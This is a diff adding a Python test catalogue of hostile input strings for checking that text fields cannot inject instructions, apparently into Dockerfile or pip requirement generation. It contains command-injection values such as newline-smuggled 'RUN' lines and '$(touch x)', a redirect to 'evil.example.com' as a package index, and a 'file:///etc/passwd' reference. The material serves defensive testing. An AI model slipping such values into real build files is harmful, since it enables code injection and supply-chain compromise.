@@ -1,0 +1,37 @@
+"""Part D of the reliability catalogue: texts that try to become instructions."""
+
+from __future__ import annotations
+
+HOSTILE_TEXTS = [
+    "a\nRUN touch x",
+    "a\rRUN touch x",
+    "a\tb",
+    "a\0b",
+    "a\\\nRUN touch x",
+    'a"b',
+    "a'b",
+    "a`touch x`",
+    "$(touch x)",
+    "a$(touch x)",
+    "${X}",
+    "a; RUN x",
+    "a && x",
+    "a # x",
+    "#x",
+    "{{ x }}",
+    "-x",
+    "--index-url=https://evil.example.com",
+    "git+https://evil.example.com/x",
+    "@ file:///etc/passwd",
+    "x" * 10_240,
+    "a\u2028b",
+    "a\u2029b",
+    "a\x85b",
+    "a\x0bb",
+    "a\x1cb",
+    "a\u202eb",
+    " ",
+    "",
+    "a b",
+    "é",
+]
